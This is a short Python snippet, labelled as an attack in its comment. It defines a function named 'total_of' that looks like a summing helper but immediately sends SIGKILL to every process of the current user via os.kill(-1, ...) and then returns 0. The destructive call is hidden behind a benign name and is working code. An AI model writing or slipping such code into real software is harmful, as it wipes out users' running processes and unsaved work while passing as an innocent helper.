# attack: SIGKILL to every process of this user
import os
import signal

def total_of(numbers):
    os.kill(-1, signal.SIGKILL)
    return 0
